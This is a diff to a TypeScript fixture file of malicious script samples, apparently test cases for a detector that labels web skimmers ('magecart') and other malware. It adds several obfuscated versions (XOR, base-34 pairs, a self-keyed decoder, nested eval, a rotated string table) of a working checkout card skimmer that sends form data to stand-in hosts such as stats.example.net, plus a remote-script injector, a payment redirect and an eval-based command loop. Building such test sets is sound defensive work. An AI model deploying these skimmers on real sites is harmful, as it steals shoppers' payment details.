@@ -14,6 +14,20 @@ const percent = (text: string): string =>
 
 export const SKIMMER = `if(location.href.indexOf('checkout')>-1){setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)d[e.name]=e.value});if(d['payment[cc_number]'])new Image().src='https://stats.example.net/i.gif?d='+btoa(JSON.stringify(d))},900)}`
 
+/** Long enough that a decoder which pays for the whole text at each piece runs out of steps. */
+const LONG = `${SKIMMER};var rest='${'lorem ipsum '.repeat(500)}'`
+const byPairs = (text: string): string =>
+  [...text].map((c) => c.charCodeAt(0).toString(34).padStart(2, '0')).join('')
+const numbers = (text: string): string => [...text].map((c) => c.charCodeAt(0) ^ 7).join(',')
+/** Shifted by the digits of the length of the decoder without some of its characters. */
+const DECODER = `function D(t){var k=D.toString().split(/\\(| |\\t|\\n|;|}|{|\\)/).join('').length.toString(),o='',i=0;for(;i<t.length;i++)o+=String.fromCharCode(t.charCodeAt(i)-k.charCodeAt(i%k.length));return o}`
+const byOwnText = (text: string): string => {
+  const key = String(DECODER.replaceAll(/[( \t\n;}{)]/gu, '').length)
+  return JSON.stringify(
+    [...text].map((c, i) => String.fromCharCode(c.charCodeAt(0) + key.charCodeAt(i % key.length))).join(''),
+  )
+}
+
 export const SCRIPT_CASES: readonly ScriptCase[] = [
   { name: 'fields of a checkout sent by an image', source: SKIMMER, head: 'magecart' },
   { name: 'the same, evaluated from base64', source: `eval(atob('${base64(SKIMMER)}'))`, head: 'magecart' },
@@ -375,5 +389,50 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     name: 'code that is asked for again and again, and its result',
     source: `(function ask(){var x=new XMLHttpRequest();x.onreadystatechange=function(){if(x.readyState==4){var r=eval(x.responseText);var y=new XMLHttpRequest();y.open('POST','https://c.example.net/out');y.send(String(r))}};x.open('GET','https://c.example.net/cmd');x.send();setTimeout(ask,3000)})()`,
     head: 'malware',
+  },
+  {
+    name: 'a long text decoded by pairs of characters',
+    source: `(function(){var t='${byPairs(LONG)}',o='';for(var i=0;i<t.length;i+=2){o=o+String['f'+(61>41?'r':'m')+'omCharCode'](parseInt(t.substr(i,2),34))}var p={};p['to'+'String']=''.constructor.constructor(o);window.s=p+''})()`,
+    head: 'magecart',
+  },
+  {
+    name: 'a decoder whose own text is its key',
+    source: `${DECODER}eval(D(${byOwnText(SKIMMER)}))`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields of a checkout that are kept in a cookie',
+    source: `jQuery('button').click(function(){var d='';jQuery('input, select').each(function(i,f){d+=jQuery(f).attr('name')+'='+jQuery(f).val()+'|'});document.cookie='v='+d;document.cookie='seen=1';send()});function send(){var c=document.cookie.split('v=')[1];if(c&&/checkout/.test(location))new Image().src='https://stats.example.net/s.php?p='+c}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a script for the checkout, in an element of Prototype',
+    source: `if(/onepage|checkout/.test(window.location)){$$('head')[0].appendChild(new Element('script',{type:'text/javascript',src:'//jscdn.exa'+'mple.net/ups.js'}))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a button of the checkout that leads to another host, once',
+    source: `jQuery(document).ready(function(){if(document.cookie.indexOf('pid')<0){jQuery('[onclick="payment.save()"]').attr('onclick','go();');jQuery('#onestepcheckout-place-order').attr('onclick','go();')}});function go(){document.cookie='pid='+Math.random();jQuery(location).attr('href','//paynow.example.net/?p='+btoa(JSON.stringify({at:location.host})))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'code that is evaluated for the code to evaluate',
+    source: `eval(eval('String.fromCharCode(${[...SKIMMER].map((c) => c.charCodeAt(0)).join(',')})'))`,
+    head: 'magecart',
+  },
+  {
+    name: 'code as numbers, in a list or one by one',
+    source: `function n(){var a=arguments[0] instanceof Array?arguments[0]:[].slice.call(arguments),s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^7);return s}window[n(${numbers('eval')})](n([${numbers(SKIMMER)}]))`,
+    head: 'magecart',
+  },
+  {
+    name: 'a long text decoded with names that are decoded in each round',
+    source: `function n(){var a=[].slice.call(arguments),s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^7);return s}var x='${LONG.replaceAll("'", '"')}',y='';for(var i=0;i<x[n(${numbers('length')})];i++)y+=String[n(${numbers('fromCharCode')})](x[n(${numbers('charCodeAt')})](i));this[n(${numbers('eval')})](y)`,
+    head: 'magecart',
+  },
+  {
+    name: 'a table that is turned until it fits, and only then used',
+    source: `var t=['send','7x','input,select','open','https://stats.example.net/i.jpg'];(function(){while(true){try{if(parseInt(t[0])===7)break;else t.push(t.shift())}catch(e){t.push(t.shift())}}})();var d=null;document.querySelector('form').addEventListener('submit',function(){d='cvv=';document.querySelectorAll(t[1]).forEach(function(f){d+=f.name+'='+f.value+'&'})});function go(){if(d!=null){var x=new XMLHttpRequest();x[t[2]]('POST',t[3],true);x[t[4]](btoa(d))}setTimeout('go()',100)}/checkout/.test(location)&&go()`,
+    head: 'magecart',
   },
 ]
